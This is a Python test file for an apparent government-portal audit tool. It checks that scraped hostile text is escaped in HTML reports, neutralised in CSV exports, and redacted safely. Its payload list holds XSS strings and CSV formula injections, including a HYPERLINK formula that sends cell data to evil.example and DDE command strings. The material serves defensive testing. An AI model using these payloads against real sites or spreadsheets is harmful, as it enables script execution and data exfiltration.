"""Hostile scraped data: escaped in the report, neutralised in the CSV, stored whole, shown cut and
with its hidden controls made visible; redaction and storage never crash on strange text."""

from __future__ import annotations

import asyncio
import csv
import io
import random
from html.parser import HTMLParser
from pathlib import Path

import pytest
from ops_data import F, store_run
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from zwaudit.app.export import FORMULA_TRIGGERS, ExportFilter, export_csv
from zwaudit.app.report.render import environment, write_report
from zwaudit.browser import LAUNCH_ARGS
from zwaudit.db import models
from zwaudit.db.engine import make_engine, session_factory, upgrade
from zwaudit.findings import EvidenceRef
from zwaudit.redact import Redactor
from zwaudit.text_safety import shown, storable

CHROMIUM = Path("/usr/bin/chromium")
LONG = "长" * 2500 + "x" * 2500  # a 5,000-character item name
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\u202e最低生活保障审批\u202c",  # a right-to-left override
    "低\u200b保\u200d",  # zero-width characters
    "居民身份证申领 🆔👨‍👩‍👧",
    LONG,
]


def hostile_run(sf: sessionmaker[Session]) -> int:
    findings = [
        F(
            "sbx-shu",
            "data_same_source",
            name,
            "fail",
            "field_mismatch",
            {"field": "事项名称", "portal": name, "mobile": PAYLOADS[i - 1], "url": "javascript:alert(4)"},
            [EvidenceRef(kind="url", media_type="text/uri-list", url=f"https://a/item?q={name}")],
        )
        for i, name in enumerate(PAYLOADS)
    ]
    findings.append(
        F("sbx-zhe", "link_health", "javascript:alert(5)", "error", "not_html", {"error": PAYLOADS[0]})
    )
    return store_run(sf, findings)


class Tags(HTMLParser):
    """Every start tag and its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_report_escapes_every_scraped_payload_and_cuts_long_names(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    autoescape = environment().autoescape
    assert callable(autoescape) and autoescape("report.html.j2") is True
    run_id = hostile_run(sessions)
    html = write_report(sessions, run_id, tmp_path / "report").read_text(encoding="utf-8")
    parser = Tags()
    parser.feed(html)
    names = [t for t, _ in parser.tags]
    assert "script" not in names
    for tag, attrs in parser.tags:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)  # no event handler
        assert not (attrs.get("href") or "").lower().startswith("javascript:"), attrs
        if tag == "img":
            assert (attrs.get("src") or "").startswith("evidence/")
    assert "</script>" not in html and "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown as text, for the reader
    # hidden controls are made visible; nothing invisible reaches the page
    assert "\u202e" not in html and "\u200b" not in html and "⟦U+202E⟧" in html
    # 5,000-character names are cut for display …
    assert "长" * 400 not in html and "长" * 250 in html
    # … and stored whole
    with sessions() as session:
        targets = set(session.scalars(select(models.Finding.target).where(models.Finding.run_id == run_id)))
    assert LONG in targets and PAYLOADS[8] in targets


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium")
def test_hostile_report_runs_no_script_in_chromium(tmp_path: Path) -> None:
    from playwright.async_api import Dialog, async_playwright

    engine = make_engine(f"sqlite:///{tmp_path / 'h.sqlite'}")
    upgrade(engine)
    sf = session_factory(engine)
    html_path = write_report(sf, hostile_run(sf), tmp_path / "report")
    engine.dispose()

    async def visit() -> tuple[list[str], int]:
        dialogs: list[str] = []

        async def on_dialog(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        async with async_playwright() as pw:
            browser = await pw.chromium.launch(executable_path=str(CHROMIUM), args=list(LAUNCH_ARGS))
            page = await browser.new_page()
            page.on("dialog", on_dialog)
            await page.goto(html_path.as_uri())
            await page.wait_for_timeout(300)
            scripts = await page.evaluate("document.scripts.length")
            for link in await page.locator("a").all():  # a clickable javascript: link would fire here
                if (await link.get_attribute("href") or "").startswith("#"):
                    continue
                await link.click(modifiers=["Control"], no_wait_after=True, timeout=2000)
            await browser.close()
        return dialogs, int(scripts)

    dialogs, scripts = asyncio.run(visit())
    assert dialogs == [] and scripts == 0


def test_csv_neutralises_every_formula_and_keeps_names_whole(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    run_id = hostile_run(sessions)
    out = tmp_path / "h.csv"
    export_csv(sessions, ExportFilter(run_id), out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row]
    unneutralised = [c for c in cells if c and c[0] in FORMULA_TRIGGERS]
    assert unneutralised == []
    targets = {c[1:] if c[:1] == "'" and c[1:2] in FORMULA_TRIGGERS else c for c in (row[5] for row in rows)}
    assert set(PAYLOADS) <= targets  # the original text, 5,000 characters and all, after the "'"
    assert sum(1 for c in cells if c.startswith("'")) >= 5


def test_shown_marks_hidden_controls_and_cuts() -> None:
    assert shown("\u202eabc") == "⟦U+202E⟧abc"
    assert shown("a\u200bb\ufeffc\x00d\x07") == "a⟦U+200B⟧b⟦U+FEFF⟧c\ufffdd⟦U+0007⟧"
    assert shown("x" * 5000, 300) == "x" * 299 + "…" and len(shown("x" * 5000)) == 300
    assert shown("办事指南 🆔\n第二行") == "办事指南 🆔\n第二行"
    assert shown(None) == ""


def pieces(rng: random.Random, personal: dict[str, str]) -> str:
    """A random string built from what hostile pages contain, personal data included."""
    alphabet = [
        "\x00", "\ud800", "\udfff", "\ud83d", "🆔", "👨\u200d👩\u200d👧", "\u202e", "\u200b", "\ufeff",
        "低保", "张", "-", " ", "\n", "<script>", "=", "'", "\\", "*", "(", "[", "$", "^", ".",
        "\U0010ffff", "\u0301", "ß", "İ",
    ]  # fmt: skip
    values = list(personal.values())
    parts: list[str] = []
    for _ in range(rng.randint(0, 40)):
        roll = rng.random()
        if roll < 0.15:
            value = rng.choice(values)
            sep = rng.choice(["", " ", "-"])
            parts.append(sep.join(value) if rng.random() < 0.3 else value)
        elif roll < 0.2:
            parts.append(rng.choice(alphabet) * rng.randint(100, 5000))
        else:
            parts.append(rng.choice(alphabet))
    return "".join(parts)


def test_redaction_never_crashes_and_never_leaks_on_strange_text() -> None:
    """Property-style: 3,000 random hostile strings (seeded, reproducible)."""
    personal = {
        "name": "张大友",
        "id_number": "51010019800101123X",
        "phone": "13800138000",
        "username": "zdy",
    }
    redactor = Redactor(personal)
    rng = random.Random(16)
    for _ in range(3000):
        text = pieces(rng, personal)
        masked = redactor(text)
        assert redactor.contains_personal(masked) == [], repr(text[:200])
        assert isinstance(shown(masked), str) and "\x00" not in storable(masked)
    assert redactor("x" * 5000 + "13800138000") == "x" * 5000 + "138****8000"
    assert Redactor({})("\ud800\x00") == "\ud800\x00"  # nothing to redact: unchanged, no crash


def test_nul_and_lone_surrogates_are_stored_on_both_backends(sessions: sessionmaker[Session]) -> None:
    name = "居民\x00身份证\ud800申领 🆔"
    run_id = store_run(
        sessions, [F("sbx-shu", "data_same_source", name, "fail", "item_missing", {"name": name})]
    )
    with sessions() as session:
        row = session.scalars(select(models.Finding).where(models.Finding.run_id == run_id)).one()
    assert row.target == storable(name) == "居民\ufffd身份证\ufffd申领 🆔"
    assert row.detail == {"name": storable(name)}
